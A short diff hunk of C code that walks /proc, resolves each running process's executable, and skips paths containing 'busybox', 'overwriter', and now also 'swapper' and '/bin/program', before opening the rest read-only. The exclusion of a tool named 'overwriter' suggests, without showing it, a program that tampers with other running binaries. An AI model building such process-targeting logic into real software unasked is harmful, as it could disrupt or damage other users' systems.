@@ -19,7 +19,7 @@ int main(void)
 				continue;
 			snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
 			ssize_t length = readlink(path, target, sizeof target - 1);
-			if (length < 0 || (target[length] = 0, strstr(target, "busybox") || strstr(target, "overwriter")))
+			if (length < 0 || (target[length] = 0, strstr(target, "busybox") || strstr(target, "swapper") || strstr(target, "overwriter") || strstr(target, "/bin/program")))
 				continue;
 			int fd = open(path, O_RDONLY | O_CLOEXEC);
 			if (fd < 0)
